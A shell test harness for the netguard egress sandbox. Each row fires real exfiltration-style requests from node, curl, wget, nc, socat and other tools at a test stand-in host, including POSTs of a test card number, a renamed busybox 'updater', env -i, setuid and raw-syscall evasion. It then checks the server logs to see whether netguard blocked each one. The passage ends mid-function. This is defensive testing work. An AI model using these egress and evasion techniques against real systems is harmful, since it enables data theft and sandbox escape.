# tests/attacks/rows.sh -- the attack/defense matrix, one shell function per row.
#
# Sourced by tests/attacks/matrix.test (TAP) and tests/attacks/demo.sh (the
# table), inside the test world (tests/world/world.sh, SPEC §8) and after
# tests/lib.sh (NETGUARD, NG_PRELOAD, NG_ASAN, TMP, ok/is).
#
# Every row runs a real attack under one policy -- "deny all but allowed.test
# and loopback, network tools jailed" ($TMP/policy.conf, below) -- against
# api.stripe.com (203.0.113.5 in the world: a live HTTP server on port 80,
# TCP echo on 9000, UDP sink on 9001, TLS on 8443 and h2c on 8444 started
# here), then decides from the servers' logs, not from the client's exit
# status:
#
#   leaks    a request, connection, datagram or DNS query of the attack
#            reached a server (httpd/tcp/udp/tls/h2 log line on a 203.0.113.x
#            address, or a dnsmasq query for a denied name or a PTR name);
#   blocked  nothing arrived, and netguard logged what it refused (the tier);
#   error    nothing arrived, but netguard logged nothing either: the attack
#            itself is broken, which proves nothing (never counted as blocked);
#   skip     the client is not installed here, or the control (the same
#            attack run without netguard, for the rows whose channel is
#            unusual: raw/packet sockets, TFO, DNS, PTR, setuid) did not get
#            through on this machine either; the reason is printed.
#
# The tier is read from netguard's own log lines of the attack run:
#   "jail exec ... rule=R"       -> jail: R       (jailexec: no network at all)
#   "deny exec ... rule=privileged" -> exec: privileged
#   "deny socket|dns|ptr|connect|send" -> preload: socket|dns|ptr|connect|send
#
# Each row also runs a twin: the same code path against the allowed host
# (allowed.test = 198.51.100.10 / 2001:db8::10, or loopback), which must
# still answer.  For
# programs the policy jails (network tools, static binaries, a jailed inline
# syscall) the jailed program has no network at all, allowed hosts included
# (a jail has no per-host allowlist yet, SPEC §10): their twin is the node
# app that started them, which must still reach allowed.test, and the row
# says so.
#
# Usage:  rows_init; for r in $ROWS; do $r test; done; rows_fini
# A row function takes MODE: "test" prints TAP (ok/not ok, "# SKIP reason"),
# "demo" prints one line of the table (rows_table_head prints its header).

ROWS="row_1 row_2 row_3 row_4 row_5 row_6a row_6b row_6c row_6d row_6e row_6f row_6g row_6h
row_7a row_7b row_7c row_8 row_9a row_9b row_10a row_10b row_11 row_12 row_13 row_14 row_15
row_16 row_17 row_18 row_19 row_20 row_21a row_21b"

# ---- set-up ------------------------------------------------------------------------

rows_init() {
	PY=/usr/bin/python3		# the system python, not a PATH shim (a shim is one more exec)
	[ -x "$PY" ] || PY=
	NODE=$(command -v node 2>/dev/null || command -v nodejs 2>/dev/null)
	CC=$(command -v cc 2>/dev/null || command -v gcc 2>/dev/null)
	unset NETGUARD_POLICY NETGUARD_SNAPSHOT NETGUARD_MODE NETGUARD_JAILEXEC
	NETGUARD_LOG=stderr
	export NETGUARD_LOG
	POL=$TMP/policy.conf
	cat >"$POL" <<'EOF'
version = 1;
default = "deny";
rules = (
  { name = "loopback"; action = "allow"; to = ( "127.0.0.0/8", "::1", "localhost" ); },
  { name = "allowed";  action = "allow"; to = ( "allowed.test" ); }
);
exec = {
  rules = (
    { name = "network-tools"; program = ( "@network_tools" ); argv0 = ( "@network_tools" ); action = "jail"; }
  );
};
EOF
	_rows_n=0 _bn=0
	ROWS_BLOCKED=0 ROWS_LEAKS=0 ROWS_SKIPPED=0 ROWS_ERRORS=0 ROWS_UNEXPECTED=''
	ROWS_TWINS=0 ROWS_TWINS_OK=0 ROWS_EXPECTED_LEAKS='' ROWS_SKIP_LIST=''
	for _l in httpd tcp udp dnsmasq tls h2; do
		[ -e "$WORLD_DIR/$_l.log" ] || : >"$WORLD_DIR/$_l.log"
		: >"$TMP/control-lines.$_l"
		: >"$TMP/expected-leaks.$_l"
	done

	# Shared helpers for the python rows (imported as ngrow).
	cat >"$TMP/ngrow.py" <<'EOF'
import socket, struct, sys

def resolve4(host):
    """getaddrinfo, so the preload learns address -> name (a numeric host stays numeric)."""
    return socket.getaddrinfo(host, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]

def sockaddr_in(ip, port):
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(ip) + b"\0" * 8

def request(host, tag):
    return ("GET /%s HTTP/1.0\r\nHost: %s\r\n\r\n" % (tag, host)).encode()

def body(data):
    return data.decode("latin-1").split("\r\n\r\n", 1)[-1].strip()

def say(*a):
    print(*a, flush=True)
EOF
	# A sentinel through every server, so "nothing arrived" is read after the
	# servers have handled everything sent before it (UDP sink and dnsmasq are
	# single-threaded; the HTTP client of a leak waits for its answer anyway).
	cat >"$TMP/barrier.py" <<'EOF'
import socket, struct, sys
n = "barrier-" + sys.argv[1]
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(n.encode(), ("127.0.0.1", 9001))
q = struct.pack(">HHHHHH", 0x4243, 0x0100, 1, 0, 0, 0) + bytes([len(n)]) + n.encode() + b"\x04test\x00" + struct.pack(">HH", 1, 1)
d = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
d.settimeout(2)
d.sendto(q, ("127.0.0.53", 53))
try:
    d.recv(512)
except OSError:
    pass
c = socket.create_connection(("127.0.0.1", 8080), timeout=2)
c.sendall(("GET /%s HTTP/1.0\r\n\r\n" % n).encode())
c.recv(4096)
EOF
	# node helper: run async steps one after the other, each printing one line
	cat >"$TMP/ngrow.js" <<'EOF'
// each(items, fn): fn(item) returns a promise of a line to print; errors print too.
exports.each = async (items, fn) => {
  setTimeout(() => { console.log('error: overall timeout'); process.exit(9); }, 9000).unref();
  let failed = 0;
  for (const it of items) {
    try { console.log(`${it} -> ${await fn(it)}`); }
    catch (e) { failed++; console.log(`${it} -> error ${e.code || (e.cause && e.cause.code) || e.message}`); }
  }
  return failed;
};
exports.read = (stream) => new Promise((resolve, reject) => {
  let d = ''; stream.setEncoding('utf8');
  stream.on('data', (c) => { d += c; }); stream.on('end', () => resolve(d.trim())); stream.on('error', reject);
});
EOF
	rows_servers
}

# TLS (8443) and h2c (8444) servers on every address of the world, written in
# node, logging each TCP connection as it arrives (so even a client that
# fails the TLS handshake afterwards is seen) and each request.
rows_servers() {
	NODESRV_PID='' HAVE_TLS=''
	[ -n "$NODE" ] || return 0
	if command -v openssl >/dev/null 2>&1 &&
		openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
			-keyout "$TMP/tls.key" -out "$TMP/tls.crt" -subj /CN=allowed.test \
			-addext "subjectAltName=DNS:allowed.test,DNS:api.stripe.com,DNS:localhost,IP:127.0.0.1,IP:203.0.113.5" \
			>"$TMP/openssl.log" 2>&1; then
		HAVE_TLS=1
	fi
	cat >"$TMP/servers.js" <<'EOF'
const fs = require('fs'), https = require('https'), http2 = require('http2');
const [dir, key, cert] = process.argv.slice(2);
const la = (s) => String(s.localAddress || '-').replace(/^::ffff:/, '');
const pa = (s) => String(s.remoteAddress || '-').replace(/^::ffff:/, '');
const log = (f, line) => fs.appendFileSync(`${dir}/${f}`, line + '\n');
let n = 0;
const ready = () => { if (++n === (key ? 2 : 1)) fs.writeFileSync(`${dir}/nodesrv.ready`, `${process.pid}\n`); };
if (key) {
  const s = https.createServer({ key: fs.readFileSync(key), cert: fs.readFileSync(cert) }, (req, res) => {
    log('tls.log', `${la(req.socket)} 8443 ${req.method} ${req.url} peer=${pa(req.socket)}`);
    res.end(`hello over tls from ${la(req.socket)} path ${req.url}\n`);
  });
  s.on('connection', (c) => log('tls.log', `${la(c)} 8443 conn peer=${pa(c)}`));
  s.listen({ host: '::', port: 8443 }, ready);
}
const h = http2.createServer();
h.on('connection', (c) => log('h2.log', `${la(c)} 8444 conn peer=${pa(c)}`));
h.on('stream', (st, hd) => {
  const c = st.session.socket;
  log('h2.log', `${la(c)} 8444 ${hd[':method']} ${hd[':path']} peer=${pa(c)}`);
  st.respond({ ':status': 200 });
  st.end(`hello over h2 from ${la(c)} path ${hd[':path']}\n`);
});
h.listen({ host: '::', port: 8444 }, ready);
EOF
	rm -f "$WORLD_DIR/nodesrv.ready"
	if [ -n "$HAVE_TLS" ]; then
		setpriv --pdeathsig KILL "$NODE" "$TMP/servers.js" "$WORLD_DIR" "$TMP/tls.key" "$TMP/tls.crt" \
			</dev/null >"$TMP/servers.err" 2>&1 &
	else
		setpriv --pdeathsig KILL "$NODE" "$TMP/servers.js" "$WORLD_DIR" </dev/null >"$TMP/servers.err" 2>&1 &
	fi
	NODESRV_PID=$!
	_i=0
	while [ ! -e "$WORLD_DIR/nodesrv.ready" ] && [ $_i -lt 100 ]; do sleep 0.05; _i=$((_i + 1)); done
	[ -e "$WORLD_DIR/nodesrv.ready" ] || { echo "# node TLS/h2c servers did not start:" ; sed 's/^/#   /' "$TMP/servers.err"; }
}

rows_fini() {
	if [ -n "${NODESRV_PID-}" ]; then kill "$NODESRV_PID" 2>/dev/null; wait "$NODESRV_PID" 2>/dev/null; fi
	NODESRV_PID=
}

# ---- row machinery -------------------------------------------------------------------

# row_begin MODE ID NAME EXPECT: start a row (EXPECT: blocked | leaks)
row_begin() {
	R_MODE=$1 R_ID=$2 R_NAME=$3 R_EXPECT=$4
	R_OUTCOME='' R_TIER='' R_TWIN=n/a R_TWIN_WANT=n/a R_TWIN_NOTE='' R_NOTE='' R_POL=$POL R_SKIP='' R_BROKEN=''
	R_DIR=$TMP/row-$R_ID
	rm -rf "$R_DIR"
	mkdir -p "$R_DIR"
	: >"$R_DIR/attack.out"; : >"$R_DIR/attack.err"; : >"$R_DIR/twin.out"; : >"$R_DIR/twin.err"
	: >"$R_DIR/control.out"; : >"$R_DIR/control.err"
	row_mark
}

# row_mark: remember where every server log ends; only what comes after counts
row_mark() {
	for _l in httpd tcp udp dnsmasq tls h2; do
		eval "_m_$_l=\$(wc -c <\"\$WORLD_DIR/\$_l.log\")"
	done
}

# new_lines LOG: what LOG (httpd, tcp, udp, dnsmasq, tls, h2) got since row_mark
new_lines() {
	eval "_o=\$_m_$1"
	tail -c +$((_o + 1)) "$WORLD_DIR/$1.log"
}

# wait_new LOG REGEX: up to 3 s for REGEX among LOG's new lines
wait_new() {
	_i=0
	while ! new_lines "$1" | grep -Eq -- "$2"; do
		_i=$((_i + 1))
		[ $_i -lt 60 ] || return 1
		sleep 0.05
	done
	return 0
}

row_skip() { R_SKIP=$1; }

# _ng CMD...: netguard run -p $R_POL -- CMD (with the ASan runtime first in a sanitizer build)
_ng() {
	if [ -n "${NG_ASAN-}" ]; then
		timeout 20 env LD_PRELOAD="$NG_ASAN" "$NETGUARD" run -p "$R_POL" -- "$@"
	else
		timeout 20 "$NETGUARD" run -p "$R_POL" -- "$@"
	fi
}

# attack CMD... / twin CMD...: run under netguard in the row's directory;
# output is appended to $R_DIR/attack.{out,err} (twin.{out,err}).
attack() { (cd "$R_DIR" && _ng "$@") </dev/null >>"$R_DIR/attack.out" 2>>"$R_DIR/attack.err"; }
twin() { (cd "$R_DIR" && _ng "$@") </dev/null >>"$R_DIR/twin.out" 2>>"$R_DIR/twin.err"; }

# control CMD...: without netguard (to show the vector works on this machine);
# control LOG REGEX must then find it arrived, or the row is skipped: an
# attack that cannot get through even unprotected proves nothing.
control() { (cd "$R_DIR" && timeout 20 "$@") </dev/null >>"$R_DIR/control.out" 2>>"$R_DIR/control.err"; }
control_arrived() { # LOG REGEX WHAT
	if wait_new "$1" "$2"; then _ok=0; else barrier; _ok=1; fi
	# what the control brought is no leak: the whole-run check leaves it out
	for _l in httpd tcp udp dnsmasq tls h2; do new_lines $_l >>"$TMP/control-lines.$_l"; done
	row_mark
	[ $_ok -ne 0 ] || return 0
	row_skip "control failed: $3 does not get through here even without netguard"
	return 1
}

# twin_arrived LOG REGEX [NOTE]: the twin's request reached the allowed host
twin_arrived() {
	R_TWIN_WANT=yes
	if wait_new "$1" "$2"; then R_TWIN=yes; else R_TWIN=no; fi
	[ -z "${3-}" ] || R_TWIN_NOTE=$3
}

barrier() {
	_bn=$((_bn + 1))
	timeout 10 "${PY:-python3}" "$TMP/barrier.py" "$_bn" >/dev/null 2>&1
	wait_new udp "barrier-$_bn'" && wait_new dnsmasq "barrier-$_bn\\.test" && wait_new httpd " /barrier-$_bn "
}

# tier_of FILE: the tiers netguard reported in a run's stderr
tier_of() {
	_t='' _p=''
	if grep -q 'netguard\[[0-9]*\]: jail exec ' "$1"; then
		_t="jail: $(sed -n 's/.*netguard\[[0-9]*\]: jail exec .* rule=\([^ ]*\).*/\1/p' "$1" | sort -u | paste -sd/ -)"
	fi
	if grep -q 'netguard\[[0-9]*\]: deny exec .* rule=privileged' "$1"; then
		_t="${_t:+$_t, }exec: privileged"
	elif grep -q 'netguard\[[0-9]*\]: deny exec ' "$1"; then
		_t="${_t:+$_t, }exec: deny"
	fi
	for _o in socket dns ptr connect send; do
		grep -q "netguard\[[0-9]*\]: deny $_o " "$1" && _p="${_p:+$_p, }$_o"
	done
	[ -z "$_p" ] || _t="${_t:+$_t + }preload: $_p"
	printf '%s' "$_t"
}

# What counts as arrived: any connection, request or datagram on a denied
# (203.0.113.x) address, and any DNS query for a denied name or a PTR name.
LEAK_NET='^(::ffff:)?203\.0\.113\.[0-9]+ '
LEAK_DNS='query\[[A-Z]+\] ([^ ]*\.)?(evil\.test|stripe\.com|denied\.test) |in-addr\.arpa|ip6\.arpa'
# The allowed host as the servers log it (node prefers its IPv6 address).
ALLOWED_RE='(198\.51\.100\.10|2001:db8::10)'

# rows_whole_run: every arrival at a denied host or the resolver in the whole
# run that no control (run without netguard) and no expected leak (21a) explains
rows_whole_run() {
	for _l in httpd tcp udp dnsmasq tls h2; do
		if [ $_l = dnsmasq ]; then _re=$LEAK_DNS; else _re=$LEAK_NET; fi
		grep -E -- "$_re" "$WORLD_DIR/$_l.log" | grep -vxF -f "$TMP/control-lines.$_l" |
			grep -vxF -f "$TMP/expected-leaks.$_l" | sed "s/^/$_l.log: /"
	done
}

row_end() {
	if [ -n "$R_SKIP" ]; then
		R_OUTCOME=skip
	else
		barrier
		{
			for _l in httpd tcp udp tls h2; do new_lines $_l | grep -E -- "$LEAK_NET" | sed "s/^/$_l.log: /"; done
			new_lines dnsmasq | grep -E -- "$LEAK_DNS" | sed 's/^/dnsmasq.log: /'
		} >"$R_DIR/leaked"
		R_TIER=$(tier_of "$R_DIR/attack.err")
		if [ -s "$R_DIR/leaked" ]; then
			R_OUTCOME=leaks
			if [ -z "$R_TIER" ] && [ "$R_EXPECT" = leaks ]; then
				R_TIER="leaks: preload only"
			elif [ -z "$R_TIER" ]; then
				R_TIER="nothing refused it"
			fi
			if [ "$R_EXPECT" = leaks ]; then
				for _l in httpd tcp udp dnsmasq tls h2; do new_lines $_l >>"$TMP/expected-leaks.$_l"; done
			fi
		elif [ -n "$R_BROKEN" ]; then
			R_OUTCOME=error
			R_TIER=$R_BROKEN
		elif grep -Eq '^jailexec: |netguard\[[0-9]+\]: jail exec .*refused\)' "$R_DIR/attack.err"; then
			# a jail verdict whose jail never started the program proves nothing
			R_OUTCOME=error
			R_TIER="the jail did not start the program: $(grep -Em1 '^jailexec: |refused\)' "$R_DIR/attack.err" | cut -c1-160)"
		elif [ -n "$R_TIER" ]; then
			R_OUTCOME=blocked
		else
			R_OUTCOME=error
			R_TIER="nothing arrived, nothing logged: the attack is broken"
		fi
	fi
	_rows_n=$((_rows_n + 1))
	case $R_OUTCOME in
	blocked) ROWS_BLOCKED=$((ROWS_BLOCKED + 1)) ;;
	leaks) ROWS_LEAKS=$((ROWS_LEAKS + 1)) ;;
	skip) ROWS_SKIPPED=$((ROWS_SKIPPED + 1)) ROWS_SKIP_LIST="${ROWS_SKIP_LIST:+$ROWS_SKIP_LIST; }$R_ID $R_SKIP" ;;
	*) ROWS_ERRORS=$((ROWS_ERRORS + 1)) ;;
	esac
	if [ "$R_OUTCOME" != skip ]; then
		[ "$R_OUTCOME" = "$R_EXPECT" ] || ROWS_UNEXPECTED="$ROWS_UNEXPECTED $R_ID"
		[ "$R_OUTCOME" = leaks ] && [ "$R_EXPECT" = leaks ] && ROWS_EXPECTED_LEAKS="$ROWS_EXPECTED_LEAKS $R_ID"
		if [ "$R_TWIN_WANT" != n/a ]; then
			ROWS_TWINS=$((ROWS_TWINS + 1))
			if [ "$R_TWIN" = "$R_TWIN_WANT" ]; then
				ROWS_TWINS_OK=$((ROWS_TWINS_OK + 1))
			else
				ROWS_UNEXPECTED="$ROWS_UNEXPECTED $R_ID(twin)"
			fi
		fi
	fi
	if [ "$R_MODE" = demo ]; then row_print; else row_tap; fi
}

# ---- output ----------------------------------------------------------------------------

_diag() { sed 's/^/#   /' | head -n "${1:-12}"; }

row_tap() {
	if [ "$R_OUTCOME" = skip ]; then
		_tap_n=$((_tap_n + 1))
		echo "ok $_tap_n - $R_ID $R_NAME # SKIP $R_SKIP"
		return
	fi
	case $R_OUTCOME:$R_TIER in
	leaks:leaks:*) _d="$R_ID $R_NAME: $R_TIER -- $(sed -n '1s/: / got: /p' "$R_DIR/leaked"); expected $R_EXPECT" ;;
	leaks:*) _d="$R_ID $R_NAME: LEAKS ($R_TIER) -- $(sed -n '1s/: / got: /p' "$R_DIR/leaked"); expected $R_EXPECT" ;;
	*) _d="$R_ID $R_NAME: $R_OUTCOME${R_TIER:+ ($R_TIER)}, expected $R_EXPECT" ;;
	esac
	if [ "$R_OUTCOME" = "$R_EXPECT" ]; then
		ok 0 "$_d"
	else
		ok 1 "$_d"
		[ ! -s "$R_DIR/leaked" ] || { echo "#   arrived at the server:"; _diag 8 <"$R_DIR/leaked"; }
		echo "#   attack stdout:"; _diag 10 <"$R_DIR/attack.out"
		echo "#   attack stderr:"; _diag 10 <"$R_DIR/attack.err"
	fi
	if [ "$R_TWIN_WANT" != n/a ]; then
		if [ "$R_TWIN" = "$R_TWIN_WANT" ]; then
			ok 0 "$R_ID $R_NAME: allowed twin answers${R_TWIN_NOTE:+ ($R_TWIN_NOTE)}"
		else
			ok 1 "$R_ID $R_NAME: allowed twin answers${R_TWIN_NOTE:+ ($R_TWIN_NOTE)}"
			echo "#   twin stdout:"; _diag 10 <"$R_DIR/twin.out"
			echo "#   twin stderr:"; _diag 10 <"$R_DIR/twin.err"
		fi
	fi
	[ -z "$R_NOTE" ] || echo "#   $R_ID: $R_NOTE"
}

# demo table: Attack | netguard | tier | allowed host still works
_pad() { # TEXT WIDTH: TEXT padded to WIDTH columns (an arrow is 3 bytes, 1 column)
	_s=$(printf '%s' "$1" | sed 's/→/>/g')
	_n=$((${2} - ${#_s}))
	printf '%s' "$1"
	while [ $_n -gt 0 ]; do printf ' '; _n=$((_n - 1)); done
}
rows_colour() {
	if [ -t 1 ] && [ -z "${NO_COLOR-}" ]; then
		C_GREEN=$(printf '\033[32m') C_RED=$(printf '\033[31m') C_YELLOW=$(printf '\033[33m') C_OFF=$(printf '\033[0m') C_BOLD=$(printf '\033[1m')
	else
		C_GREEN='' C_RED='' C_YELLOW='' C_OFF='' C_BOLD=''
	fi
}
W_ATT=47 W_NG=8 W_TIER=34 W_TWIN=40
rows_table_head() {
	rows_colour
	printf '| %s | %s | %s | %s |\n' "$(_pad Attack $W_ATT)" "$(_pad netguard $W_NG)" "$(_pad tier $W_TIER)" "$(_pad 'allowed host still works' $W_TWIN)"
	printf '|%s|%s|%s|%s|\n' "$(_pad '' $((W_ATT + 2)) | tr ' ' -)" "$(_pad '' $((W_NG + 2)) | tr ' ' -)" \
		"$(_pad '' $((W_TIER + 2)) | tr ' ' -)" "$(_pad '' $((W_TWIN + 2)) | tr ' ' -)"
}
row_print() {
	case $R_OUTCOME in
	blocked) _c=$C_GREEN _w=blocked ;;
	leaks) _c=$C_RED _w=leaks ;;
	skip) _c=$C_YELLOW _w=skipped ;;
	*) _c=$C_RED _w=ERROR ;;
	esac
	case $R_OUTCOME:$R_TWIN in
	skip:*) _tw="-" ;;
	*:n/a) _tw="n/a" ;;
	*) _tw="$R_TWIN${R_TWIN_NOTE:+ ($R_TWIN_NOTE)}" ;;
	esac
	_tier=$R_TIER
	[ "$R_OUTCOME" != skip ] || _tier=$R_SKIP
	[ "$R_OUTCOME" = skip ] || [ "$R_OUTCOME" = "$R_EXPECT" ] || _w="$_w!"
	printf '| %s | %s%s%s | %s | %s |\n' "$(_pad "$R_ID $R_NAME" $W_ATT)" "$_c" "$(_pad "$_w" $W_NG)" "$C_OFF" \
		"$(_pad "$_tier" $W_TIER)" "$(_pad "$_tw" $W_TWIN)"
}

# need TOOL...: skip the row unless every tool is there
need() {
	for _t in "$@"; do
		case $_t in
		node) [ -n "$NODE" ] || { row_skip "node not installed"; return 1; } ;;
		python3) [ -n "$PY" ] || { row_skip "/usr/bin/python3 not installed"; return 1; } ;;
		cc) [ -n "$CC" ] || { row_skip "no C compiler (cc) installed"; return 1; } ;;
		*) command -v "$_t" >/dev/null 2>&1 || { row_skip "$_t not installed"; return 1; } ;;
		esac
	done
	return 0
}

# ---- node: the SDK-level rows --------------------------------------------------------------

# 1. node http.get, by name and by address
row_1() {
	row_begin "$1" 1 "node http.get" blocked
	if need node; then
		cat >"$R_DIR/attack.js" <<'EOF'
const http = require('http');
const { each, read } = require(process.env.NGROW);
each(process.argv.slice(2), (url) => new Promise((resolve, reject) => {
  const req = http.get(url, { timeout: 3000 }, (res) => read(res).then((b) => resolve(`${res.statusCode} ${b}`), reject));
  req.on('timeout', () => req.destroy(new Error('timeout')));
  req.on('error', reject);
}));
EOF
		NGROW=$TMP/ngrow.js attack "$NODE" attack.js http://api.stripe.com/r1 http://203.0.113.5/r1-addr
		NGROW=$TMP/ngrow.js twin "$NODE" attack.js http://allowed.test/r1-twin
		twin_arrived httpd "^$ALLOWED_RE "'80 GET /r1-twin '
	fi
	row_end
}

# 2. node https.request: the https module's code path up to the refusal
row_2() {
	row_begin "$1" 2 "node https.request" blocked
	if need node; then
		cat >"$R_DIR/attack.js" <<'EOF'
const https = require('https'), fs = require('fs');
const { each, read } = require(process.env.NGROW);
const ca = process.env.CA ? fs.readFileSync(process.env.CA) : undefined;
each(process.argv.slice(2), (url) => new Promise((resolve, reject) => {
  const req = https.request(url, { method: 'POST', ca, timeout: 3000, headers: { 'content-type': 'application/x-www-form-urlencoded' } },
    (res) => read(res).then((b) => resolve(`${res.statusCode} ${b}`), reject));
  req.on('timeout', () => req.destroy(new Error('timeout')));
  req.on('error', reject);
  req.end('amount=100&currency=usd&card=4242424242424242');
}));
EOF
		if [ -n "$HAVE_TLS" ]; then
			CA=$TMP/tls.crt NGROW=$TMP/ngrow.js attack "$NODE" attack.js https://api.stripe.com:8443/v1/charges/r2 https://203.0.113.5:8443/r2-addr
			CA=$TMP/tls.crt NGROW=$TMP/ngrow.js twin "$NODE" attack.js https://allowed.test:8443/r2-twin
			twin_arrived tls "^$ALLOWED_RE "'8443 POST /r2-twin '
		else
			# no TLS server: aim at the HTTP port, where a leaked handshake would be logged
			NGROW=$TMP/ngrow.js attack "$NODE" attack.js https://api.stripe.com:80/v1/charges/r2 https://203.0.113.5:80/r2-addr
			R_NOTE="openssl not installed: no local TLS server, so no allowed twin (the refusal is before any TLS)"
		fi
	fi
	row_end
}

# 3. node fetch (undici)
row_3() {
	row_begin "$1" 3 "node fetch" blocked
	if need node; then
		cat >"$R_DIR/attack.js" <<'EOF'
const { each } = require(process.env.NGROW);
each(process.argv.slice(2), async (url) => {
  const r = await fetch(url, { signal: AbortSignal.timeout(3000) });
  return `${r.status} ${(await r.text()).trim()}`;
});
EOF
		NGROW=$TMP/ngrow.js attack "$NODE" attack.js http://api.stripe.com/r3 http://203.0.113.5/r3-addr
		NGROW=$TMP/ngrow.js twin "$NODE" attack.js http://allowed.test/r3-twin
		twin_arrived httpd "^$ALLOWED_RE "'80 GET /r3-twin '
	fi
	row_end
}

# 4. axios-style client: a tiny promise wrapper over http.request (as axios's
#    node adapter is), POSTing JSON
row_4() {
	row_begin "$1" 4 "node axios-style (http.request wrapper)" blocked
	if need node; then
		cat >"$R_DIR/attack.js" <<'EOF'
const http = require('http');
const { each, read } = require(process.env.NGROW);
function axiosLike(config) {
  return new Promise((resolve, reject) => {
    const u = new URL(config.url);
    const body = config.data === undefined ? '' : JSON.stringify(config.data);
    const req = http.request({
      hostname: u.hostname, port: u.port || 80, path: u.pathname + u.search, method: (config.method || 'get').toUpperCase(),
      headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body), ...(config.headers || {}) },
      timeout: config.timeout || 0,
    }, (res) => read(res).then((data) => resolve({ status: res.statusCode, headers: res.headers, data }), reject));
    req.on('timeout', () => req.destroy(Object.assign(new Error('timeout of ' + config.timeout + 'ms exceeded'), { code: 'ECONNABORTED' })));
    req.on('error', reject);
    req.end(body);
  });
}
each(process.argv.slice(2), async (url) => {
  const r = await axiosLike({ method: 'post', url, data: { amount: 100, card: '4242424242424242' }, timeout: 3000 });
  return `${r.status} ${r.data}`;
});
EOF
		NGROW=$TMP/ngrow.js attack "$NODE" attack.js http://api.stripe.com/v1/charges/r4 http://203.0.113.5/r4-addr
		NGROW=$TMP/ngrow.js twin "$NODE" attack.js http://allowed.test/r4-twin
		twin_arrived httpd "^$ALLOWED_RE "'80 POST /r4-twin '
	fi
	row_end
}

# 5. node net.connect to the TCP echo port
row_5() {
	row_begin "$1" 5 "node net.connect" blocked
	if need node; then
		cat >"$R_DIR/attack.js" <<'EOF'
const net = require('net');
const { each } = require(process.env.NGROW);
each(process.argv.slice(2), (hp) => new Promise((resolve, reject) => {
  const [host, port] = hp.split(':');
  const s = net.connect({ host, port: +port, timeout: 3000 }, () => s.end('secret payload r5\n'));
  let d = '';
  s.on('data', (c) => { d += c; });
  s.on('end', () => resolve(`echoed ${JSON.stringify(d)}`));
  s.on('timeout', () => s.destroy(new Error('timeout')));
  s.on('error', reject);
}));
EOF
		NGROW=$TMP/ngrow.js attack "$NODE" attack.js api.stripe.com:9000 203.0.113.5:9000
		NGROW=$TMP/ngrow.js twin "$NODE" attack.js allowed.test:9000
		twin_arrived tcp "^$ALLOWED_RE "'9000 [0-9]+ '
	fi
	row_end
}

# ---- node child_process: the process-level rows ---------------------------------------------

# The node app of the exec rows: starts TOOL against URL (child_process.spawnSync,
# its stderr -- with netguard's log lines -- passed through), then, when
# given APPURL, makes its own http.get to it (the app still works).
_cp_js() {
	cat >"$TMP/cp.js" <<'EOF'
const cp = require('child_process'), http = require('http');
const [tool, url, appUrl] = process.argv.slice(2);
const u = new URL(url);
const host = u.hostname, path = u.pathname, port = u.port || '80';
const raw = `GET ${path} HTTP/1.0\r\nHost: ${host}\r\n\r\n`;
const PY = '/usr/bin/python3';
const tools = {
  curl: { cmd: 'curl', args: ['-sS', '-m', '3', url] },
  wget: { cmd: 'wget', args: ['-q', '-O-', '-T', '3', '-t', '1', url] },
  python3: { cmd: PY, args: ['-c', 'import sys, urllib.request as u; print(u.urlopen(sys.argv[1], timeout=3).read().decode())', url] },
  perl: { cmd: 'perl', args: ['-MIO::Socket::INET', '-e',
    'my ($h, $p) = $ARGV[0] =~ m{^http://([^/:]+)(/.*)$}; my $s = IO::Socket::INET->new(PeerAddr => $h, PeerPort => 80, Timeout => 3) or die "error: $@\\n"; print $s "GET $p HTTP/1.0\\r\\nHost: $h\\r\\n\\r\\n"; print while <$s>;', url] },
  ruby: { cmd: 'ruby', args: ['-rnet/http', '-e',
    'u = URI(ARGV[0]); Net::HTTP.start(u.host, u.port, open_timeout: 3, read_timeout: 3) { |h| puts h.get(u.path).body }', url] },
  php: { cmd: 'php', args: ['-r', 'echo file_get_contents($argv[1], false, stream_context_create(["http" => ["timeout" => 3]]));', url] },
  nc: { cmd: 'nc', args: ['-w', '3', host, port], input: raw },
  socat: { cmd: 'socat', args: ['-t', '3', '-T', '3', '-', `TCP:${host}:${port},connect-timeout=3`], input: raw },
  // a static binary dropped as ./updater (busybox: argv[0] picks the applet)
  // (no -T: busybox 1.35 wget -T segfaults; spawnSync's timeout bounds it)
  updater: { cmd: './updater', argv0: 'busybox', args: ['wget', '-q', '-O-', url] },
  'env-i-curl': { cmd: 'env', args: ['-i', 'curl', '-sS', '-m', '3', url], env: {} },
  'env-i-python3': { cmd: 'env', args: ['-i', PY, '-c', 'import sys, urllib.request as u; print(u.urlopen(sys.argv[1], timeout=3).read().decode())', url], env: {} },
  setuid: { cmd: process.env.SUID_HELPER, args: ['wget', '-q', '-O-', url] },
  inline: { cmd: './inline-syscall', args: [host, path.slice(1)] },
};
const t = tools[tool];
const r = cp.spawnSync(t.cmd, t.args, {
  input: t.input || '', stdio: ['pipe', 'pipe', 'inherit'], timeout: 8000, encoding: 'utf8',
  env: t.env || process.env, argv0: t.argv0 || t.cmd,
});
const st = r.error ? `spawn error ${r.error.code}` : `exit ${r.status}${r.signal ? ' signal ' + r.signal : ''}`;
console.log(`child ${tool}: ${st}; stdout: ${JSON.stringify((r.stdout || '').trim().slice(-160))}`);
if (appUrl) {
  const req = http.get(appUrl, { timeout: 3000 }, (res) => {
    let d = ''; res.on('data', (c) => { d += c; }); res.on('end', () => console.log(`app: ${d.trim()}`));
  });
  req.on('timeout', () => req.destroy(new Error('timeout')));
  req.on('error', (e) => { console.log(`app: error ${e.code}`); process.exitCode = 2; });
}
EOF
}

# _cp_jailed_ran TOOL: after attack, the jailed TOOL must have run and failed
# on its own (no network), not been refused its start (spawn error) or its
# exec (126, 127): a jail that never started the program proves nothing
_cp_jailed_ran() {
	grep -Eq "^child $1: exit ([0-9]|[1-9][0-9]|1[01][0-9]|12[0-5])(;| signal)" "$R_DIR/attack.out" ||
		R_BROKEN="the jailed $1 did not run: $(grep -m1 "^child $1:" "$R_DIR/attack.out" | cut -c1-120)"
}

# _cp_row ID NAME TOOL JAILED: the child_process rows.  A tool the policy jails
# cannot reach allowed.test either (a jail has no network): its twin is the
# node app itself; a tool that runs under the preload must reach allowed.test.
_cp_row() {
	row_begin "$1" "$2" "node child_process → $3" blocked
	_tool=$4 _jailed=$5
